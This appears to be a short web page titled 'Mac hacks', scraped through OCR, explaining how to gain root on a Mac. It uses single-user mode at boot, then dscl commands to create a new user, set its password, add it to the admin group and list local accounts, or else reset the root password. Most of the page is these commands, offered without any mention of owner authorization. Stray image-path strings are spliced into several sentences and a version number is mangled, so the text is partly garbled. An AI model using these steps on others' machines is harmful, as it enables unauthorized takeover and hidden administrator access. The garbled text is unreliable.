Mac hacks

Turn on the computer. Upon hearing the startup chime, hold the key combinationCMD+S. This boots the computer into single-user mode, which in turn gives you access via the root user. It is important to note, however, that this can be blocked by a firmware password. (if so, see here)


if that doesn’t work:

dscl . -create /Users/luser
dscl . -create /Users/luser UserShell /bin/bash
dscl . -create /Users/luser RealName "Lucius Q. User"
dscl . -create /Users/luser UniqueID "1010"
dscl . -create /Users/luser PrimaryGroupID 80
dscl . -create /Users/luser NFSHomeDirectory /Users/luser

You can then use passwd to change theuser’s password, or use:

dscl . -passwd /Users/luser password

You’ll have to create /Users/luser for the user’s home directory and change ownership so the usercan access it, and be sure that the UniqueID is in fact unique.

This line will add the user to the administrator’s group:

dscl . -append /Groups/admin GroupMembership luser

view local users:

dscl . -readall /Users
dscl . -readall /Users | grep RecordName

Alternate method:

just change the root password viapasswd (after mounting fs).

for 10..7+ may need:

launchctl load/System/Library/LaunchDaemons/

Leave a Reply